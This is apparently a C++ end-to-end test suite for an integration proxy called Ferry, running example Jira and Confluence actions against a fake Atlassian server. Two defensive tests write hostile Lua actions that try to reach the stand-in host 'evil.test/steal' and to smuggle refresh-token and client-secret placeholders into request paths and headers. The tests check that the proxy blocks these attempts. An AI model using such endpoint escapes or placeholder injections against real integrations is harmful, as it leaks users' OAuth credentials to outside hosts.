// The shipped example actions end to end: `ferry init`'s Lua files run by the real binary
// against the real fake-atlassian, their HTTP calls going through Ferry's own proxy path.
#include <filesystem>
#include <nlohmann/json.hpp>

#include "fake_atlassian_process.h"
#include "ferry_fixture.h"

namespace ferry::testing {
namespace {

using nlohmann::json;
using Headers = std::vector<std::pair<std::string, std::string>>;

constexpr const char* kSecret = "e2e-actions-secret-key-0123456789";
constexpr const char* kCloudId = "1324a887-45db-1bf4-1e99-ef0ff456d421";  // the fake's first site

class ExampleActions : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = make_temp_dir("ferry-actions") + "/demo";
    ASSERT_EQ(ferry({"init", dir_}).exit_code, 0);
    const std::string base = fake_.base_url();
    std::string integrations = "integrations:\n";
    for (const char* key : {"jira", "confluence"}) {
      integrations += std::string("  ") + key + ":\n"
                      "    extends_blueprint: jira:v0\n"
                      "    oauth_client_id: fake-client-id\n"
                      "    oauth_client_secret: fake-client-secret\n"
                      "    auth:\n"
                      "      authorization_url: " + base + "/authorize\n"
                      "      token_url: " + base + "/oauth/token\n"
                      "    requests:\n"
                      "      base_url: " + base + "/\n";
    }
    write_file(dir_ + "/integrations.yaml", integrations);
    write_file(dir_ + "/ferry.yaml", std::string("secret_key: ") + kSecret + "\n");
    server_ = std::make_unique<RunningFerry>(dir_);
    const json tokens = fake_.issue_tokens();
    for (const char* key : {"jira", "confluence"}) {
      const json body = {{"provider_config_key", key},
                         {"connection_id", "user-1"},
                         {"credentials",
                          {{"type", "OAUTH2"},
                           {"access_token", tokens["access_token"]},
                           {"refresh_token", tokens["refresh_token"]},
                           {"expires_at", "2099-01-01T00:00:00Z"}}},
                         {"connection_config", {{"cloudId", kCloudId}}}};
      auto created = server_->client().request("POST", "/connections", api(), body.dump());
      ASSERT_EQ(created.status, 201) << created.body;
    }
  }

  static Headers api() {
    return {{"Authorization", std::string("Bearer ") + kSecret}, {"Content-Type", "application/json"}};
  }

  HttpReply trigger(const std::string& integration, const std::string& action, const json& input) {
    Headers headers = api();
    headers.emplace_back("Connection-Id", "user-1");
    headers.emplace_back("Provider-Config-Key", integration);
    return server_->client().request("POST", "/action/trigger", headers,
                                     json{{"action_name", action}, {"input", input}}.dump());
  }

  Fake fake_;
  std::string dir_;
  std::unique_ptr<RunningFerry> server_;
};

TEST_F(ExampleActions, CreateIssueSendsAnAdfDescriptionAndReturnsTheKey) {
  auto reply = trigger("jira", "create-issue",
                       {{"project_key", "PROJ"}, {"summary", "From an action"},
                        {"description", "Created end to end"}});
  ASSERT_EQ(reply.status, 200) << reply.body;
  auto output = json::parse(reply.body);
  ASSERT_TRUE(output["key"].is_string()) << reply.body;
  EXPECT_EQ(output["key"].get<std::string>().rfind("PROJ-", 0), 0u);
  // The issue exists upstream, with the ADF description the action built.
  auto issue = trigger("jira", "create-issue", {{"summary", "missing project"}});
  EXPECT_EQ(issue.status, 500);
  EXPECT_EQ(json::parse(issue.body)["error"]["code"], "action_failed");
}

TEST_F(ExampleActions, SearchIssuesFollowsNextPageTokensToTheEnd) {
  auto reply = trigger("jira", "search-issues", {{"jql", "project = PROJ ORDER BY key"}});
  ASSERT_EQ(reply.status, 200) << reply.body;
  auto output = json::parse(reply.body);
  EXPECT_EQ(output["truncated"], false);
  EXPECT_GE(output["issues"].size(), 100u) << "expected several pages of the fake's PROJ issues";
  EXPECT_EQ(output["issues"][0]["key"], "PROJ-1");
  // Each page was one proxied call in the activity log.
  auto logs = server_->client().get("/logs?integration=jira&limit=100", api());
  EXPECT_GE(json::parse(logs.body)["logs"].size(), 2u);
}

TEST_F(ExampleActions, ListPagesFollowsConfluenceCursorLinks) {
  auto reply = trigger("confluence", "list-pages", json::object());
  ASSERT_EQ(reply.status, 200) << reply.body;
  auto output = json::parse(reply.body);
  EXPECT_EQ(output["truncated"], false);
  EXPECT_GE(output["pages"].size(), 50u) << reply.body.substr(0, 500);
}

TEST_F(ExampleActions, AHostEscapingEndpointFailsTheAction) {
  write_file(dir_ + "/jira/escape.action.lua",
             "return function(nango, input)\n"
             "  return nango:get{endpoint = '//evil.test/steal'}\n"
             "end\n");
  // Picked up without a restart (the folder is polled every second).
  HttpReply reply;
  for (int i = 0; i < 50; ++i) {
    reply = trigger("jira", "escape", json::object());
    if (reply.status != 404) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_EQ(reply.status, 500) << reply.body;
  EXPECT_EQ(json::parse(reply.body)["error"]["code"], "action_failed");
}

TEST_F(ExampleActions, CredentialPlaceholdersInAnActionRequestNeverReachTheUpstream) {
  write_file(dir_ + "/jira/leak-path.action.lua",
             "return function(nango, input)\n"
             "  return nango:get{endpoint = '/ex/jira/${oauth_client_secret}/${refresh_token}'}\n"
             "end\n");
  write_file(dir_ + "/jira/leak-header.action.lua",
             "return function(nango, input)\n"
             "  return nango:get{endpoint = '/ex/jira/x', headers = {['X-Leak'] = '${refresh_token}'}}\n"
             "end\n");
  const int before = fake_.admin("GET", "stats")["requests_total"];
  for (const char* action : {"leak-path", "leak-header"}) {
    HttpReply reply;
    // Picked up without a restart (the folder is polled every second).
    for (int i = 0; i < 50; ++i) {
      reply = trigger("jira", action, json::object());
      if (reply.status != 404) break;
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    EXPECT_EQ(reply.status, 500) << action << ": " << reply.body;
    EXPECT_NE(reply.body.find("not allowed here"), std::string::npos) << reply.body;
    EXPECT_EQ(reply.body.find("fake-client-secret"), std::string::npos) << reply.body;
  }
  EXPECT_EQ(fake_.admin("GET", "stats")["requests_total"], before);
}

}  // namespace
}  // namespace ferry::testing
